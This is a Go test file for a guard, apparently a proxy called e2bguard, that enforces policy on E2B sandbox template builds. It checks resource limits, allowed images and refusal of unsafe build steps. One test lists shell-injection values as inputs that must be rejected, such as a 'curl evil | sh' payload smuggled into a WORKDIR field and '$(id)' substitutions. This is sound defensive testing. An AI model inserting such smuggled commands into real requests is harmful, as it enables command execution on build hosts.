package control

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/e2bguard/e2bguard/guard"
	"github.com/e2bguard/e2bguard/internal/e2b/route"
	"github.com/e2bguard/e2bguard/internal/policy"
)

const (
	newTemplate = "/v3/templates"
	startBuild  = "/v2/templates/{templateID}/builds/{buildID}"
)

var building = with(func(p *policy.Policy) {
	p.Builds = policy.Builds{Images: []string{"python"}, Templates: []string{"base"}, CPU: 2, MemoryMB: 1024}
})

func TestATemplatesMachineIsKeptWithinPolicy(t *testing.T) {
	tiny := with(func(p *policy.Policy) { p.Builds = policy.Builds{Images: []string{"python"}, CPU: 1, MemoryMB: 256} })
	for name, tt := range map[string]struct {
		body    string
		policy  policy.Policy
		want    string
		changed int
	}{
		"within":             {`{"name":"a","tags":["x"],"cpuCount":2,"memoryMB":1024}`, building, `{"name":"a","tags":["x"],"cpuCount":2,"memoryMB":1024}`, 0},
		"clamped":            {`{"name":"a","cpuCount":8,"memoryMB":8192}`, building, `{"name":"a","cpuCount":2,"memoryMB":1024}`, 2},
		"E2B's defaults fit": {`{"alias":"a"}`, building, `{"alias":"a"}`, 0},
		"E2B's do not fit":   {`{"alias":"a"}`, tiny, `{"alias":"a","cpuCount":1,"memoryMB":256}`, 2},
	} {
		t.Run(name, func(t *testing.T) {
			got, changes, ref := enforced(t, newTemplate, tt.body, tt.policy)
			require.Nil(t, ref)
			assert.Equal(t, tt.want, got)
			assert.Len(t, changes, tt.changed)
		})
	}
	for body, want := range map[string]string{
		`{}`:                                    "names no template",
		`{"name":"a","cpuCount":0}`:             "1 or more",
		`{"name":"a","cpuCount":2.0}`:           "whole number",
		`{"Name":"a"}`:                          "not spelled",
		`{"name":"a","dockerfile":"FROM evil"}`: "none that e2bguard knows",
	} {
		_, _, ref := enforced(t, newTemplate, body, building)
		require.NotNil(t, ref, body)
		assert.Contains(t, ref.Reason, want)
	}
	_, _, ref := enforced(t, newTemplate, `{"name":"a"}`, standard)
	require.NotNil(t, ref)
	assert.Contains(t, ref.Reason, "option builds")
}

func TestABuildIsFromWhatIsAllowed(t *testing.T) {
	for body, want := range map[string]string{
		`{"fromImage":"python:3.12"}`:                    "",
		`{"fromImage":"index.docker.io/library/python"}`: "",
		`{"fromTemplate":"base"}`:                        "",
		`{"fromImage":"python","fromImageRegistry":{"type":"registry","username":"u","password":"hush"}}`: "",
		`{"fromImage":"evil/python"}`:                  "option builds",
		`{"fromImage":"python","fromTemplate":"base"}`: "either fromImage or fromTemplate",
		`{"steps":[]}`:                          "either fromImage or fromTemplate",
		`{"fromImage":""}`:                      "either fromImage or fromTemplate",
		`{"fromTemplate":"base:evil"}`:          "option builds",
		`{"fromImage":"python","setupCmd":"x"}`: "none that e2bguard knows",
		`{"FromImage":"evil"}`:                  "not spelled",
		`{"fromImage":"python","steps":[{"type":"RUN","Args":["x"],"args":["y"]}]}`:                       "not spelled",
		`{"fromImage":"python","steps":[{"type":"RUN","args":["x"],"script":"y"}]}`:                       "none that e2bguard knows",
		`{"fromImage":"python","steps":["RUN x"]}`:                                                        "not an object",
		`{"fromImage":"python","steps":[{"type":"RUN","args":["x"],"filesHash":"ab"}]}`:                   "only COPY takes",
		`{"fromImage":"evil/x","fromImageRegistry":{"type":"registry","username":"u","password":"hush"}}`: "option builds",
		`{"fromImage":"python","fromImageRegistry":"hush"}`:                                               "is a string",
	} {
		_, _, ref := enforced(t, startBuild, body, building)
		if want == "" {
			assert.Nil(t, ref, body)
			continue
		}
		require.NotNil(t, ref, body)
		assert.Contains(t, ref.Reason, want, body)
		assert.NotContains(t, ref.Reason, "hush")
		if ref.Err != nil {
			assert.NotContains(t, ref.Err.Error(), "hush")
		}
	}
}

func buildWith(t testing.TB, steps ...[]string) (Message, string) {
	t.Helper()
	type sent struct {
		Type string   `json:"type"`
		Args []string `json:"args"`
	}
	body := struct {
		FromImage string `json:"fromImage"`
		Steps     []sent `json:"steps"`
	}{FromImage: "python"}
	for _, s := range steps {
		body.Steps = append(body.Steps, sent{s[0], s[1:]})
	}
	b, err := json.Marshal(body)
	require.NoError(t, err)
	m, ref := Decode(target(t, startBuild), b)
	if ref != nil {
		return nil, ref.Reason
	}
	return m, ""
}

// E2B's builder pastes folders, users and values into scripts of its own (its
// commands in e2b-dev/infra quote none of them).
func TestWhatTheBuilderWouldPasteIsRefused(t *testing.T) {
	for _, s := range [][]string{
		{"WORKDIR", `/a"; curl evil | sh; "`}, {"WORKDIR", "/a$(id)"}, {"WORKDIR", "/a`id`"}, {"WORKDIR", "/a\nid"}, {"WORKDIR", `/a\`}, {"WORKDIR", "/${x:-$(id)}"}, {"WORKDIR", "$[a]"}, {"WORKDIR", ""}, {"WORKDIR"}, {"WORKDIR", "a", "b"},
		{"USER", "a; id"}, {"USER", "$(id)"}, {"USER", "-o"}, {"USER", "a b"}, {"USER", "a\nid"}, {"USER", "a", "yes"}, {"USER"}, {"USER", "a", "true", "x"},
		{"RUN", "id", "a;id"}, {"RUN", "id", "a", "b"}, {"RUN"},
		{"ENV", "A"}, {"ENV"}, {"ENV", "A B", "x"}, {"ENV", "A;id", "x"}, {"ENV", "A", "$(id)"}, {"ENV", "A", "$[a[$(id)]]"}, {"ENV", "A", "${x:-`id`}"}, {"ENV", "A", "$B`id`"}, {"ENV", "A", "x\x00"}, {"ARG", "A", "${a[0]}"},
		{"COPY", "a", "b"}, {"ADD", "a", "b"}, {"copy", "a", "b"}, {"SHELL", "x"}, {"", "x"}, {"ENTRYPOINT", "x"},
	} {
		_, reason := buildWith(t, s)
		assert.NotEmpty(t, reason, "%q", s)
	}
	for _, s := range [][]string{
		{"WORKDIR", "/home/user/my app"}, {"WORKDIR", "$HOME/x"}, {"WORKDIR", "${APP}/x"}, {"USER", "root"}, {"USER", "dev", "true"}, {"USER", "1000:1000"}, {"RUN", "id", ""}, {"run", "id"},
		{"ENV", "PATH", "/opt/bin:$PATH"}, {"ENV", "A", `{"a":"b\\c"}`}, {"ENV", "A", "pa$$word 5$"}, {"ARG", "V", "1"}, {"ENV", "A", ""},
	} {
		_, reason := buildWith(t, s)
		assert.Empty(t, reason, "%q", s)
	}
}

func TestEveryCommandOfABuildIsASubject(t *testing.T) {
	m, ref := Decode(target(t, startBuild), []byte(`{"fromImage":"python","startCmd":"npm start","readyCmd":"curl -s localhost","steps":[
		{"type":"ENV","args":["BASH_ENV","/tmp/x","A","it's \"b\" $HOME"]},{"type":"WORKDIR","args":["/app"]},{"type":"USER","args":["dev"]},
		{"type":"RUN","args":["echo 'one' <<EOF"]},{"type":"run","args":["two","root"]}]}`))
	require.Nil(t, ref)
	subjects := m.Subjects()
	var texts []string
	for _, s := range subjects {
		texts = append(texts, string(s.Kind)+" "+s.Target+" "+s.Text)
	}
	require.Len(t, subjects, 6)
	assert.Equal(t, []string{"build  echo 'one' <<EOF", "build  two", "build  npm start", "build  curl -s localhost", "code BASH_ENV /tmp/x"}, texts[:5])
	assert.Equal(t, map[string]string{guard.LabelCwd: "/app", guard.LabelUser: "dev", guard.LabelEnvNames: "A,BASH_ENV"}, subjects[0].Labels)
	assert.Equal(t, "root", subjects[1].Labels[guard.LabelUser])
	assert.Equal(t, "export BASH_ENV=\"/tmp/x\"\nexport A=\"it's \\\"b\\\" $HOME\"\nmkdir -p \"/app\" && cd \"/app\"\n"+
		"bash -l -c 'echo '\\''one'\\'' <<EOF'\nbash -l -c 'two'\nbash -l -c 'npm start'\nbash -l -c 'curl -s localhost'\n", subjects[5].Text)
}

func TestTemplateAnswers(t *testing.T) {
	b, err := KeepTemplates([]byte(`[{"templateID":"1","names":["t/a-x"],"aliases":["a-x"]},{"templateID":"2","names":["t/b-x"]},{"templateID":"3"}]`), func(names []string) bool {
		return !strings.Contains(strings.Join(names, " "), "b-x")
	})
	require.NoError(t, err)
	assert.Equal(t, `[{"templateID":"1","names":["t/a-x"],"aliases":["a-x"]},{"templateID":"3"}]`, string(b))
	for _, body := range []string{``, `{}`, `["x"]`} {
		_, err := KeepTemplates([]byte(body), func([]string) bool { return true })
		assert.Error(t, err, body)
	}
}

// What is forwarded has the commands that were judged, whatever the body.
func FuzzBuild(f *testing.F) {
	f.Add([]byte(`{"fromImage":"python","steps":[{"type":"RUN","args":["id"]}],"startCmd":"x"}`))
	f.Add([]byte(`{"fromImage":"python","steps":[{"type":"ENV","args":["A","b"]},{"type":"run","args":["\u0069d","root"],"force":true}]}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		row := route.Row{Operation: route.TemplateBuild, Pattern: startBuild}
		m, ref := Decode(route.Target{Row: row}, body)
		if ref != nil {
			return
		}
		judged := map[string]bool{}
		for _, s := range m.Subjects() {
			judged[s.Text] = true
		}
		// As E2B reads it.
		var read struct {
			StartCmd, ReadyCmd string
			Steps              []struct {
				Type string
				Args []string
			}
		}
		if json.Unmarshal(m.Encode(), &read) != nil {
			return // E2B refuses it too
		}
		for _, cmd := range []string{read.StartCmd, read.ReadyCmd} {
			if cmd != "" && !judged[cmd] {
				t.Fatalf("not judged: %q", cmd)
			}
		}
		for _, s := range read.Steps {
			if strings.EqualFold(s.Type, "RUN") && !judged[s.Args[0]] {
				t.Fatalf("not judged: %q", s.Args[0])
			}
		}
	})
}
